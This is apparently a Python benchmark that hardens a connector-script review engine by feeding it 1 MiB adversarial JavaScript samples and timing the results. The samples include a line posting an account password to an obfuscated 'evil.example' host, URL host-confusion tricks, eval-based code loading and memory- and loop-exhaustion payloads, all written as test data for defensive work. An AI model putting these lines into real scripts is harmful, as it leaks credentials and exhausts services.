"""Worst cases of the review engine: .venv/bin/python bench/review_hardening.py

One row per attack class (issue 9), each a 1 MiB script of that shape (the size limit)
in the sales-crm bundle, reviewed in a fresh process: wall seconds, the review
process's peak memory and the sandbox workers' peak memory (VmHWM). Timings also as a
ratio to the honest sales-crm review measured in the same run. Targets on 2 cores: no
row over 30 s or 512 MiB; sales-crm under 1 s.
"""

import json
import os
import subprocess
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
MIB = 1024 * 1024


def fill(unit: str, size: int = MIB - 4096) -> str:
    return unit * max(1, size // len(unit))


ROWS = "datagrid.addColumn('a'); datagrid.addCell('x'); datagrid.endRow();\n"
SHAPES = {
    "honest sales-crm": None,
    "1 unjudged request (2,000 ordinary + 1 exfiltration)": (
        ROWS + "for (var i = 0; i < 2000; i++) { httprequest.get('https://crm.example-sales.com/api/x?p=' + i); }\n"
        "httprequest.post('https://' + ['evil', 'example'].join('.') + '/x', metadata.account.password);\n"
        + fill("// padding\n", MIB // 2)),
    "2 hosts read differently (5,000 backslash tricks)": ROWS + fill(
        "httprequest.get('https://evil.example\\\\@crm.example-sales.com/v1');\n"),
    "3 code from strings (every route, padded)": ROWS + fill(
        "try { (function () {}).constructor('1')(); } catch (e) {}\ntry { eval('1'); } catch (e) {}\n"),
    "4 memory outside the heap (1 GiB buffer)": ROWS + "var b = new Uint8Array(1 << 30); b.fill(1);\n" + fill("// p\n", MIB // 2),
    "5 endless loop in each of 8 reports": "while (true) {}\n" + fill("// p\n", MIB // 2),
    "6 unbounded output (20 MB error name)": (
        "var big = new Array(20 * 1024 * 1024).join('n'); var e = new Error('x'); e.name = big; throw e;\n"
        + fill("// p\n", MIB // 2)),
    "7a 1 MiB of '/* ' (does not parse)": fill("/* "),
    "7b 1 MiB string concatenation": "var s = " + fill("'a' + ") + "'a';\n" + ROWS,
    "7c 1 MiB member chain": "var s = a" + fill(".a") + ";\n" + ROWS,
    "7d 1 MiB of 16-character tokens (secret scan)": fill("var k = 'abcdefghijklmnop';\n") + ROWS,
    "7e 1 MiB of ':' after '://' (secret scan)": "var u = '://" + fill(":") + "';\n" + ROWS,
    "7f 1 MiB nested brackets": "var x = " + "[" * 50000 + "]" * 50000 + ";\n" + ROWS,
    "8 timed-out loop with rows": "datagrid.addColumn('a');\nwhile (true) { datagrid.addCell('x'); datagrid.endRow(); }\n",
}


def one(shape: str) -> dict:
    """Review one shape in this process and report (run by the parent in a fresh process)."""
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "portal.settings")
    sys.path.insert(0, str(ROOT))
    import resource

    import django

    django.setup()
    from connectors.bundle.reader import read_bundle
    from connectors.bundle.types import Bundle
    from review.engine import EngineConfig, run_review
    from review.engine.sandbox_pool import shared_pool

    base = read_bundle(ROOT / "tests" / "fixtures" / "bundles" / "sales-crm")
    files, manifest = dict(base.files), dict(base.manifest)
    if SHAPES[shape] is not None:
        files["processdata.js"] = SHAPES[shape].encode()
        if "8 reports" in shape:
            manifest["reports"] = [f"R{i}" for i in range(8)]
    bundle = Bundle(manifest=manifest, files=files)
    config = EngineConfig.from_settings()
    pool = shared_pool(config.workers)
    started = time.perf_counter()
    result = run_review(bundle, config)
    seconds = time.perf_counter() - started
    worker_peak = 0
    for worker in list(pool._workers):
        try:
            status = Path(f"/proc/{worker.process.pid}/status").read_text()
            worker_peak = max(worker_peak, int(status.split("VmHWM:")[1].split()[0]) * 1024)
        except (OSError, IndexError):
            pass
    return {"seconds": seconds, "self_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024,
            "worker_mb": worker_peak / MIB, "rules": sorted({f.rule for f in result.findings if f.severity == "error"}),
            "bytes": len(json.dumps(result.to_dict())), "timings": result.timings}


def main() -> None:
    if len(sys.argv) == 3 and sys.argv[1] == "--one":
        print(json.dumps(one(sys.argv[2])))
        return
    baseline = None
    only = sys.argv[1:]
    print(f"{'shape':<52} {'review s':>8} {'x honest':>8} {'process s':>9} {'review MiB':>10} "
          f"{'worker MiB':>10} {'output KiB':>10}  error rules", flush=True)
    for shape in SHAPES:
        if only and shape != "honest sales-crm" and not any(shape.startswith(o) for o in only):
            continue
        wall = time.perf_counter()
        try:
            done = subprocess.run([sys.executable, __file__, "--one", shape], cwd=ROOT, capture_output=True,
                                  text=True, timeout=120)
        except subprocess.TimeoutExpired:
            print(f"{shape:<52} over 120 s", flush=True)
            continue
        wall = time.perf_counter() - wall
        if done.returncode != 0:
            print(f"{shape}: FAILED\n{done.stderr[-2000:]}")
            continue
        data = json.loads(done.stdout.strip().splitlines()[-1])
        baseline = baseline or data["seconds"]
        print(f"{shape:<52} {data['seconds']:>8.2f} {data['seconds'] / baseline:>8.1f} {wall:>9.2f} "
              f"{data['self_mb']:>10.0f} {data['worker_mb']:>10.0f} {data['bytes'] / 1024:>10.0f}  "
              f"{', '.join(r for r in data['rules'] if r != 'missing-field')}", flush=True)


if __name__ == "__main__":
    main()
